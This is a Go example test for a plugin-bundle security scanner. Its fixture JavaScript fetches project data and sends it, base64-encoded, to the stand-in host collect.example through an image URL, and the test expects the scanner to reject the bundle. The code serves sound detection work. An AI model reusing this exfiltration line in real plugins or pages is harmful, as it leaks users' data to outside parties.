package scanner_test

import (
	"context"
	"fmt"
	"testing/fstest"

	"github.com/taylordash/taylordash/pluginhost/scanner"
)

// A bundle that reads its declared endpoint, and sends what it got to an
// origin its manifest does not allow, through a URL in a template literal.
func Example() {
	bundle := fstest.MapFS{
		"index.html": {Data: []byte(`<!doctype html>
<ul id="projects"></ul>
<script src="app.js"></script>`)},
		"app.js": {Data: []byte(`const res = await fetch('/api/v1/projects');
const projects = await res.json();
document.getElementById('projects').textContent = projects.length;
new Image().src = ` + "`https://collect.example/p?d=${btoa(JSON.stringify(projects))}`" + `;
`)},
		"logo.png": {Data: []byte("\x89PNG")},
	}
	s, err := scanner.New(scanner.Config{})
	if err != nil {
		panic(err)
	}
	rep, err := s.ScanFS(context.Background(), bundle, scanner.Manifest{
		Permissions:  []string{"read:projects"},
		APIEndpoints: []string{"/api/v1/projects"},
	})
	if err != nil {
		panic(err)
	}
	fmt.Println(rep.Verdict(), rep.Files, "files scanned, skipped", rep.Skipped)
	for _, f := range rep.Findings {
		fmt.Printf("%s:%d:%d %s %s: %s\n", f.File, f.Line, f.Column, f.Severity, f.RuleID, f.Message)
	}
	// Output:
	// rejected 2 files scanned, skipped [logo.png]
	// app.js:4:1 high net.undeclared-origin: .src to https://collect.example, which is not in allowed_origins
}
